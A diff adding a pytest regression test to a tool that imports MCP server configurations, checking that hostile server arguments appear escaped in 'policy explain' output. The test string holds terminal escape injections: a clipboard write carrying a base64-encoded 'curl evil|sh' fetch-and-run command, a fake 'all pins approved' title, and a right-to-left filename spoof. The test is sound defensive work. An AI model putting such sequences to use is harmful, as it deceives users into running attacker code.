@@ -17,6 +17,7 @@ import pytest
 from tests.support import WARDEN, sandbox_writable
 from warden.cli import build_parser
 from warden.cli.run import run_command
+from warden.escape import char_class
 from warden.secrets import SecretStore
 
 TOKEN = "ghp_canaryTOKEN0123456789abcdef"
@@ -261,6 +262,25 @@ def test_cursor_file(home: Path, isolated_env: Path) -> None:
     assert warden(home, "import", "--undo").returncode == 0
     assert path.read_bytes() == raw
 
+
+# What a cloned project's host file can hand a server as arguments: an OSC 52 clipboard write (a command for the
+# user to paste), an OSC 0 title, a right-to-left override and a C1 control sequence introducer.
+HOSTILE_ARG = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;warden: all pins approved\x07\u202etxt.exe\x9b2J"
+
+
+def test_an_imported_server_s_hostile_arguments_reach_policy_explain_escaped(home: Path, isolated_env: Path) -> None:
+    """``warden import`` copies a server's arguments as the host file has them; ``policy explain`` shows them on
+    its launch line. Before, that line was printed raw: the terminal of whoever explained the server obeyed."""
+    path = home / ".cursor" / "mcp.json"
+    path.parent.mkdir()
+    path.write_text(json.dumps({"mcpServers": {"docs": {"command": "npx", "args": ["-y", "docs", HOSTILE_ARG]}}}))
+    assert warden(home, "import").returncode == 0
+    done = subprocess.run([WARDEN, "policy", "explain", "--server", "docs"], capture_output=True, timeout=60,
+                          check=False, env={**os.environ, "HOME": str(home)})
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.split(b"\n")[3] == (b"  launch: npx -y docs '\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b]0;warden: "
+                                           b"all pins approved\\x07<U+202E>txt.exe\\x9b2J'")
+    assert [ch for ch in done.stdout.decode() if ch != "\n" and char_class(ch) is not None] == []
 
 @pytest.mark.parametrize(("content", "message"), [
     (b"{not json", "not valid JSON"),
